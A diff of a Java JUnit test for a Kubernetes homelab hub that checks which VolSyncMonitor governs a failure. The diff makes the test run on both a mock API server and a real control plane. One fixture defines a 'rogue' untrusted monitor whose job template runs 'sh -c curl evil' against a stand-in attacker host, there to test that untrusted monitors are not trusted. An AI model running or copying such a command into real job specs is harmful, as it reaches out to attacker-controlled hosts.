@@ -10,9 +10,11 @@ import com.rafaribe.homelab.hub.HubConfig;
 import com.rafaribe.homelab.hub.api.MonitorYaml;
 import com.rafaribe.homelab.hub.api.UnlockJobMetadata;
 import com.rafaribe.homelab.hub.api.VolSyncMonitor;
+import com.rafaribe.homelab.hub.testing.Backend;
 import com.rafaribe.homelab.hub.testing.BlockedThreadWatch;
 import com.rafaribe.homelab.hub.testing.HubFixture;
-import com.rafaribe.homelab.hub.sandbox.SandboxApiServer;
+import com.rafaribe.homelab.hub.testing.Teardown;
+import com.rafaribe.homelab.hub.testing.TestCluster;
 import com.rafaribe.homelab.hub.testing.SharedFiles;
 import com.rafaribe.homelab.hub.testing.VolSyncWorld;
 import com.rafaribe.homelab.hub.testing.VolSyncWorld.Mover;
@@ -20,26 +22,35 @@ import io.fabric8.kubernetes.api.model.Condition;
 import io.fabric8.kubernetes.api.model.PodSpec;
 import io.fabric8.kubernetes.api.model.batch.v1.Job;
 import io.vertx.core.Vertx;
-import io.vertx.junit5.VertxExtension;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.List;
 import org.junit.jupiter.api.AfterAll;
-import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.extension.ExtendWith;
-import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.AfterParameterizedClassInvocation;
+import org.junit.jupiter.params.BeforeParameterizedClassInvocation;
+import org.junit.jupiter.params.Parameter;
+import org.junit.jupiter.params.ParameterizedClass;
+import org.junit.jupiter.params.provider.EnumSource;
 
-/** Which monitor governs a failure: the original controller's two examples, a disabled one, an invalid one, an untrusted one. */
-@ExtendWith(VertxExtension.class)
+/**
+ * Which monitor governs a failure: the original controller's two examples, a disabled one, an
+ * invalid one, an untrusted one. On a mock API server and a real control plane, whose schema
+ * takes every one of these monitors.
+ */
+@ParameterizedClass(name = "on {0}")
+@EnumSource(value = Backend.class, names = {"MOCK", "CONTROL_PLANE"})
 class MonitorPrecedenceTest {
     static final BlockedThreadWatch BLOCKED = new BlockedThreadWatch();
-    static SandboxApiServer home;
+    @Parameter
+    Backend backend;
+    static Path dir;
+    static TestCluster home;
     static HubFixture fixture;
 
-    @BeforeAll
-    static void start(Vertx vertx, @TempDir Path dir) throws Exception {
-        home = SandboxApiServer.start("home");
+    @BeforeParameterizedClassInvocation
+    static void start(Backend backend) throws Exception {
+        home = backend.start("home");
         for (VolSyncMonitor seed : MonitorYaml.parseAll(Files.readString(SharedFiles.seedMonitors()))) {
             home.client().resources(VolSyncMonitor.class).inNamespace(HUB_NS).resource(seed).create();
         }
@@ -61,13 +72,19 @@ class MonitorPrecedenceTest {
                 metadata: {name: rogue, namespace: rogue}
                 spec: {enabled: true, jobSelector: {namespaces: [media]}, unlockJobTemplate: {image: "evil/image", command: ["sh", "-c", "curl evil"]}}
                 """);
-        fixture = HubFixture.start(vertx, dir, HubConfig.DEFAULT_RESYNC, home);
+        dir = Files.createTempDirectory("precedence-test");
+        fixture = HubFixture.start(Vertx.vertx(), HubConfig.DEFAULT_RESYNC, null, Backend.kubeconfig(dir, List.of(home)));
+    }
+
+    @AfterParameterizedClassInvocation(injectArguments = false)
+    static void stop() throws Exception {
+        Teardown.close(dir, fixture == null ? null : fixture::close, home);
+        fixture = null;
+        home = null;
     }
 
     @AfterAll
-    static void stop() throws Exception {
-        fixture.close();
-        home.close();
+    static void checkBlockedThreads() {
         assertThat(BLOCKED.warnings()).as("Vert.x blocked-thread checker").isEmpty();
     }
 
